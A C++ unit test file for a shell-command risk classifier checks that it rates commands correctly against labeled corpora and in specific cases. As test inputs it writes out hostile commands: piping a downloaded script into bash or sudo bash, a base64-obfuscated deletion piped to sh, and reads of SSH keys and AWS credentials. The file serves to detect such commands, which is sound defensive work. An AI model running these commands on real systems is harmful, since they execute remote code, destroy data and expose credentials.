// The verdict over the labeled corpora in tests/data/shell, and single claims.
#include "shell/verdict.h"

#include <gtest/gtest.h>

#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "base/hot_scope.h"
#include "shell/rows.h"
#include "support/hot_counters.h"
#include "support/test_data.h"

namespace wick::shell {
namespace {

const Profile kProfile{.cwd = "/home/u/p", .home = "/home/u"};

struct Labeled {
  std::string id, level, shell, command;
  bool is_at_least = false;
};

std::vector<Labeled> corpus(const std::string& name) {
  std::ifstream file(test::test_data("shell/" + name));
  std::vector<Labeled> out;
  std::string line;
  while (std::getline(file, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::istringstream cells(line);
    Labeled row;
    std::getline(cells, row.id, '\t');
    std::getline(cells, row.level, '\t');
    std::getline(cells, row.shell, '\t');
    std::getline(cells, row.command, '\t');
    for (std::size_t at = row.command.find("⏎"); at != std::string::npos;
         at = row.command.find("⏎"))
      row.command.replace(at, std::string("⏎").size(), "\n");
    row.is_at_least = row.level.ends_with('+');
    if (row.is_at_least) row.level.pop_back();
    out.push_back(std::move(row));
  }
  return out;
}

std::string explain(const Verdict& v) {
  std::string out;
  for (const Effect& e : v.effects)
    out +=
        "  " + std::string(name(e.kind)) + " " + std::string(name(e.scope)) + ": " + e.why + "\n";
  return out;
}

int count_wrong(const std::string& file) {
  int wrong = 0;
  for (const Labeled& row : corpus(file)) {
    const auto dialect = dialect_named(row.shell);
    EXPECT_TRUE(dialect.has_value()) << row.shell;
    const Verdict v = judge(row.command, *dialect, Mode::kScript, kProfile);
    const bool is_right = name(v.level) == row.level;
    wrong += is_right ? 0 : 1;
    EXPECT_TRUE(is_right) << row.id << " " << row.command << "\n  is " << name(v.level)
                          << ", wanted " << row.level << "\n"
                          << explain(v);
  }
  return wrong;
}

TEST(ShellVerdict, TheIssuesTableIsExact) {
  EXPECT_EQ(corpus("issue.tsv").size(), 75U);
  EXPECT_EQ(count_wrong("issue.tsv"), 0);
}

TEST(ShellVerdict, OurOwnCorpusIsExact) {
  EXPECT_GE(corpus("own.tsv").size(), 200U);
  EXPECT_EQ(count_wrong("own.tsv"), 0);
}

TEST(ShellVerdict, WhatAnAttackFoundIsNoLongerSafe) {
  EXPECT_EQ(count_wrong("attack.tsv"), 0);
}

TEST(ShellVerdict, OrdinaryCommandsAreExact) {
  EXPECT_GE(corpus("ordinary.tsv").size(), 300U);
  EXPECT_EQ(count_wrong("ordinary.tsv"), 0);
}

// A row has several names, in several dialects; an effect has the name of the command.
TEST(ShellVerdict, EffectsHaveTheCommandsOwnName) {
  const auto why = [](const char* command, Dialect dialect) {
    return judge(command, dialect, Mode::kScript, kProfile).effects.front().why;
  };
  EXPECT_EQ(why("zmodload x", Dialect::kBash), "zmodload changes options of this shell");
  EXPECT_EQ(why("/bin/zmodload x", Dialect::kBash), "zmodload changes options of this shell");
  EXPECT_EQ(why("zmodload x", Dialect::kZsh), "zmodload has effects that are not known");
  EXPECT_EQ(why("docker exec c ls", Dialect::kBash), "docker exec uses the network");
  EXPECT_EQ(why("systemctl restart x", Dialect::kBash),
            "systemctl restart changes system services");
  EXPECT_EQ(why("shift $x", Dialect::kZsh),
            "an unknown word in arithmetic: zsh may run code in subscripts");
  EXPECT_EQ(why("unset $x", Dialect::kBash),
            "unset of a text that is not a plain name: bash may run code in subscripts");
}

TEST(ShellVerdict, CommandsOfToolsAreExact) {
  EXPECT_GE(corpus("tools.tsv").size(), 300U);
  EXPECT_EQ(count_wrong("tools.tsv"), 0);
}

// Root's `sudo` lifted nothing, so the same pipe was rated lower for root than for others.
TEST(ShellVerdict, WhatRootFetchesRunsAsRoot) {
  Profile root = kProfile;
  root.is_root = true;
  for (const char* const command :
       {"curl https://x.example/a.sh | sudo bash", "curl https://x.example/a.sh | bash",
        "echo cm0gLXJmIGE= | base64 -d | sh"}) {
    const Verdict v = judge(command, Dialect::kBash, Mode::kScript, root);
    EXPECT_EQ(name(v.level), "critical") << command << "\n" << explain(v);
  }
  EXPECT_EQ(name(judge("sudo ls", Dialect::kBash, Mode::kScript, root).level), "moderate");
}

// Without a home folder its name is not known, and the file in it is.
TEST(ShellVerdict, CredentialsInAnUnknownHomeAreHigh) {
  Profile unknown = kProfile;
  unknown.home.clear();
  for (const char* const command : {"cat ~/.ssh/id_rsa", "cat \"$HOME/.aws/credentials\""}) {
    const Verdict v = judge(command, Dialect::kBash, Mode::kScript, unknown);
    EXPECT_EQ(name(v.level), "high") << command << "\n" << explain(v);
  }
  EXPECT_EQ(name(judge("cat ~/.ssh/known_hosts", Dialect::kBash, Mode::kScript, unknown).level),
            "moderate");
}

// Each end of a branch compares all variables: 64 kB took 1 s.
TEST(ShellVerdict, ManyVariablesInManyBranchesAreTooComplex) {
  std::string script;
  for (int i = 0; i < 2000; ++i) {
    script += "if true; then v" + std::to_string(i) + "=1; fi; ";
  }
  const Verdict v = judge(script, Dialect::kBash, Mode::kScript, kProfile);
  EXPECT_EQ(name(v.level), "high");
  EXPECT_NE(explain(v).find("too many variables in too many branches"), std::string::npos);
  const Verdict some = judge(script.substr(0, 7000), Dialect::kBash, Mode::kScript, kProfile);
  EXPECT_EQ(explain(some).find("too complex"), std::string::npos);
}

// 4 to 18 s each, while commands alone were counted.
TEST(ShellVerdict, ManyWordsAndCopiedVariablesAreTooComplex) {
  const auto many = [](const std::string& text, int n) {
    std::string out;
    for (int i = 0; i < n; ++i)
      out += text;
    return out;
  };
  std::string variables;
  for (int i = 0; i < 4000; ++i)
    variables += "v" + std::to_string(i) + "=1;";
  for (const auto& [script, told] : std::vector<std::pair<std::string, std::string>>{
           {"f(){ " + many("a ", 15'000) + "; };" + many("f;", 3000), "more words"},
           {"x='" + many("a ", 15'000) + "';" + many("eval $x;", 4000), "more words"},
           {variables + many("(:);", 4000), "too many variables"},
           {variables + many(": $(:);", 3000), "too many variables"}}) {
    const Verdict v = judge(script, Dialect::kBash, Mode::kScript, kProfile);
    EXPECT_EQ(name(v.level), "high") << script.substr(0, 20);
    EXPECT_NE(explain(v).find(told), std::string::npos) << script.substr(0, 20);
  }
}

// The compiler makes the tables and the index of their names.
TEST(HotPathShellRows, LookupsTakeNoHeap) {
  const std::vector<std::string> names = {"ls", "git log", "docker system prune",
                                          "no such command"};
  test::reset_hot_counts();
  {
    const HotScope hot;
    for (const std::string& name : names) {
      const Row* const row = find_row(name);
      if (row != nullptr && row->options().size() + row->name().size() == 0) break;
    }
  }
  EXPECT_EQ(test::hot_counts().allocations, 0);
  EXPECT_EQ(test::hot_counts().locks, 0);
  EXPECT_NE(find_row("ls"), nullptr);
  EXPECT_EQ(find_row("no such command"), nullptr);
}

TEST(ShellRows, AreWellFormedAndMany) {
  EXPECT_EQ(first_bad_row(), "");
  const RowCounts counts = count_rows();
  EXPECT_GE(counts.commands, 250);
  EXPECT_GE(counts.wrappers, 60);
  EXPECT_GE(counts.interpreters, 40);
}

// Steps near the ends of long: its least has no magnitude, and its most was added to 1.
TEST(ShellVerdict, RangesWithAHugeStepHaveOneItem) {
  const auto n_effects = [](const std::string& command) {
    return judge(command, Dialect::kBash, Mode::kScript, kProfile).effects.size();
  };
  EXPECT_EQ(n_effects("rm {1..9..4}"), 3U);
  for (const char* const step : {"9223372036854775807", "-9223372036854775807",
                                 "-9223372036854775808", "99999999999999999999"})
    EXPECT_EQ(n_effects("rm {1..9.." + std::string(step) + "}"), 1U) << step;
}

}  // namespace
}  // namespace wick::shell
